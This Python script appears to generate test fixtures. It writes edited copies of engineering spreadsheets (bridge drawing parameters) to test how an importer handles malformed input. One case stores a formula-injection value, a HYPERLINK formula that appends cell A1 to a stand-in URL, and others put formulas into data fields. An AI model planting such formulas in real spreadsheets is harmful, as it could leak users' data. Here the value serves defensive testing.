# The edits engineers make to exported sheets in a spreadsheet program, made
# with openpyxl: each case writes one edited copy FOLDER/edits/CASE.xlsx (or
# .csv, .ods) from the exported files in FOLDER (single.xlsx, other.xlsx,
# param.xlsx, single.csv). The test that calls this knows what each case must do.
# Usage: engineers_edits.py FOLDER
import csv
import datetime
import io
import os
import sys
import zipfile

import openpyxl

folder = sys.argv[1]
out = os.path.join(folder, "edits")
os.makedirs(out, exist_ok=True)


def single_edit(name, edit, source="single.xlsx"):
    book = openpyxl.load_workbook(os.path.join(folder, source))
    edit(book, book.worksheets[0])
    book.save(os.path.join(out, name + ".xlsx"))


def param_edit(name, edit):
    book = openpyxl.load_workbook(os.path.join(folder, "param.xlsx"))
    edit(book, book.worksheets[0])
    book.save(os.path.join(out, name + ".xlsx"))


def cell(ref, value, number_format=None):
    def edit(book, sheet):
        sheet[ref] = value
        if number_format:
            sheet[ref].number_format = number_format
    return edit


def text_cell(ref, value):
    def edit(book, sheet):
        sheet[ref] = value
        sheet[ref].data_type = "s"  # a text that looks like a formula, not a formula
    return edit


def sheet_before_table(book, sheet):
    notes = book.create_sheet("说明", 0)
    notes["A1"] = "改宽度"
    sheet["B6"] = 600


def deleted_angle_row(book, sheet):
    sheet.delete_rows(9)


def merged_bridge_parts(book, sheet):
    sheet.merge_cells("A17:A18")


def swapped_rows(book, sheet):
    first = [c.value for c in sheet[17]]
    second = [c.value for c in sheet[18]]
    for i, (a, b) in enumerate(zip(first, second), start=1):
        sheet.cell(17, i).value, sheet.cell(18, i).value = b, a


# A single drawing's sheet: row 1 names the drawing, row 2 is the header,
# B3 input mode, B6 width, B8 heights, B9 angle, B11 position, B12 pedestal
# number, B14 bridge part, B15 pier number, B16 scale, B17 concrete.
single_edit("width_600", cell("B6", 600))
single_edit("width_as_date", cell("B6", datetime.date(2026, 5, 1)))
single_edit("angle_as_percent", cell("B9", 0.9, "0%"))
single_edit("number_as_date", cell("B12", datetime.date(2026, 1, 1)))
single_edit("formula_in_text", cell("B14", "=A1"))
single_edit("formula_in_number", cell("B6", "=500+60"))
single_edit("heights_as_number", cell("B8", 220230))
single_edit("heights_full_width_comma", cell("B8", "220，230"))
single_edit("heights_with_text", cell("B8", "220,abc"))
single_edit("heights_empty", cell("B8", None))
single_edit("mode_unknown", cell("B3", "导入"))
single_edit("mode_empty", cell("B3", None))
single_edit("concrete_lower_case", cell("B17", "c45"))
single_edit("position_unknown", cell("B11", "中间"))
single_edit("pier_negative", cell("B15", -1))
single_edit("width_zero", cell("B6", 0))
single_edit("scale_typed_as_ratio", cell("B16", "1:20"))
single_edit("sheet_before_table", sheet_before_table)
single_edit("deleted_row", deleted_angle_row)
single_edit("other_drawing", cell("B6", 600), "other.xlsx")
single_edit("note_like_a_formula", text_cell("B18", '=HYPERLINK("http://x?"&A1,"click")'))

# The parametric sheet: rows 2-7 are read-only, B12 scale, row 16 the list
# header, rows 17 and 18 the list (bridge part, pier number, count, heights).
param_edit("merged_bridge_parts", merged_bridge_parts)
param_edit("read_only_width", cell("B2", 999))
param_edit("list_heights_as_number", cell("D17", 220230))
param_edit("list_heights_typed", cell("D17", "250,260"))
param_edit("list_count_raised", cell("C17", 3))
param_edit("list_bridge_part_empty", cell("A17", None))
param_edit("list_pier_negative", cell("B17", -1))
param_edit("list_rows_swapped", swapped_rows)

# Files of other kinds and dialects.
with zipfile.ZipFile(os.path.join(out, "saved_as_ods.ods"), "w") as ods:
    ods.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
    ods.writestr("content.xml", "<office:document-content/>")
with open(os.path.join(folder, "single.csv"), encoding="utf-8-sig", newline="") as f:
    rows = list(csv.reader(f))
rows[5][1] = "600"
for name, delimiter in (("semicolons", ";"), ("tabs", "\t")):
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter).writerows(rows)
    with open(os.path.join(out, name + ".csv"), "w", encoding="utf-8", newline="") as f:
        f.write(text.getvalue())
